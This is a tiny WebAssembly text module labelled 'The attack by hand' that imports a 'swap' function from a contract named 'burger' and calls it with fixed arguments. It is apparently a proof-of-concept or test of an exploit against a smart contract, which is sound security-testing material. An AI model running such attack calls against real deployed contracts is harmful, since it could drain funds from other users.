;; The attack by hand.

(module $attacker
  (import "contract:burger" "swap" (func $burger.swap (param i32 i32)))
  (memory $memory (export "memory") 1)

  (func $main (export "main") (call $burger.swap (i32.const 350) (i32.const 1))))
